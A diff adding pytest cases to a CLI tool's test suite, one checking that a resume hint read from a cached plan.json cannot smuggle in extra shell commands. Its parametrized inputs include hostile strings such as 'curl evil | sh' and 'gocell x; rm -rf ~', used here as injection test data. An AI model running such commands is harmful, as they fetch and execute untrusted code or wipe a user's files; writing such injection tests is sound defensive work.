@@ -4,6 +4,7 @@ import errno
 import json
 import os
 import resource
+import shlex
 import subprocess
 import sys
 import tempfile
@@ -222,3 +223,25 @@ def test_a_question_that_nobody_answers_removes_nothing(tmp_path: Path, stdin: i
     assert found.returncode == 2
     assert "error: nobody answered, so nothing was done" in found.stderr
     assert leftover.is_dir()
+
+
+@pytest.mark.parametrize("told", ["curl evil | sh", "gocell x; rm -rf ~", "gocell x $(evil) 'y z'", "gocell 'x", ""])
+def test_a_command_that_a_folder_tells_of_is_one_of_ours_and_one_alone(tmp_path: Path, told: str) -> None:
+    partial = tmp_path / "cache.partial"
+    partial.mkdir()
+    plan = {"fingerprint": "0" * 64, "command": told}
+    (partial / "plan.json").write_text(json.dumps(plan, sort_keys=True, separators=(",", ":")), "utf-8")
+    found = run("inspect", "cache", "--cache", tmp_path / "cache", cwd=tmp_path)
+    hint = found.stderr.splitlines()[-1]
+    assert found.returncode == 5, found.stderr
+    words = shlex.split(hint.removeprefix("hint: resume with: "), comments=False)
+    assert words[0] in ("gocell", "the")
+    lexer = shlex.shlex(hint, posix=True, punctuation_chars=True)
+    assert not {";", "|", "(", "&"} & set(lexer)
+    assert "$(" not in hint or "'$(" in hint
+
+
+def test_a_shell_that_allows_too_few_addresses_is_told_so(tmp_path: Path) -> None:
+    found = closing('ulimit -v 400000; exec "$0" cache ls', cwd=tmp_path)
+    assert (found.returncode, found.stdout) == (2, "")
+    assert found.stderr.startswith("error: ulimit -v allows 0.41 GB of addresses, gocell needs 0.54 GB\n")
